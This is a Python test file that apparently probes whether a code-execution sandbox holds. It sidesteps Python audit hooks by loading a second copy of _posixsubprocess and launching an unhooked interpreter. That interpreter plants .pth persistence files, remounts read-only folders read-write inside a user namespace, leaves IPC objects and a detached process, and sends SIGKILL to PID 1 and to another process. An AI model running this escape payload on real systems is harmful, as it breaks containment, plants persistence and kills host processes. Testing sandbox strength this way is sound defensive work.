"""Out of the sandbox (route 1), the strongest form: a second copy of _posixsubprocess (its fork_exec raises no audit
event) starts a fresh interpreter, which has no audit hook at all, with a payload in full native control. It
writes a .pth into the virtual environment, the checkout, the marker folder, /tmp and /dev/shm; as namespace root
it remounts the read-only view read-write and writes again; it leaves System V objects, connects to the host's
loopback listener, signals an unrelated host process and PID 1, and leaves a process sleeping in a session of its
own. Under an executor that refuses exec nothing of this runs; under one that allows the interpreter (frozen v1
and v2), the jail must hold."""
import os
import sys

PAYLOAD = r'''
import ctypes, os, socket, time
c = ctypes.CDLL(None, use_errno=True)
targets = ["{SITE}/hb_{TOKEN}_fresh.pth", "{CHECKOUT}/hb_{TOKEN}_fresh", "{MARKER}/hb_{TOKEN}_fresh",
           "/tmp/hb_{TOKEN}_fresh", "/dev/shm/hb_{TOKEN}_fresh"]
def write_all():
    for target in targets:
        try:
            with open(target, "w") as handle:
                handle.write("import os\n")
        except OSError:
            pass
write_all()
pid = os.fork()
if pid == 0:
    uid, gid = os.getuid(), os.getgid()
    if c.unshare(0x10000000 | 0x00020000) == 0:
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
            try:
                with open(f"/proc/self/{name}", "w") as handle:
                    handle.write(text)
            except OSError:
                pass
        for folder in {os.path.dirname(target) for target in targets} | {"/"}:
            c.mount(None, folder.encode(), None, 32 | 4096, None)
        write_all()
    os._exit(0)
os.waitpid(pid, 0)
key = int("{TOKEN}"[:7], 16) + 11
c.msgget(key, 0o1666); c.semget(key + 1, 1, 0o1666); c.shmget(key + 2, 4096, 0o1666)
try:
    socket.create_connection(("127.0.0.1", {PORT}), timeout=1).close()
except OSError:
    pass
for target in ({VICTIM}, 1):
    try:
        os.kill(target, 9)
    except OSError:
        pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(120)
    os._exit(0)
'''


def second_posixsubprocess():
    import importlib.util

    lib = os.path.dirname(os.__file__) + "/lib-dynload"
    path = next(f"{lib}/{name}" for name in os.listdir(lib) if name.startswith("_posixsubprocess."))
    spec = importlib.util.spec_from_file_location("hb_copy._posixsubprocess", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_a_fresh_interpreter_in_full_native_control():
    try:
        module = second_posixsubprocess()
        read_end, write_end = os.pipe()
        argv = [sys.executable.encode(), b"-I", b"-c", PAYLOAD.encode()]
        pid = module.fork_exec(
            argv, [sys.executable.encode()], True, (write_end,), None, None,
            -1, -1, -1, -1, -1, -1, read_end, write_end, False, False, -1, None, None, None, -1, None, False,
        )
        os.close(write_end)
        os.read(read_end, 4096)
        os.waitpid(pid, 0)
    except Exception:
        pass
    assert True
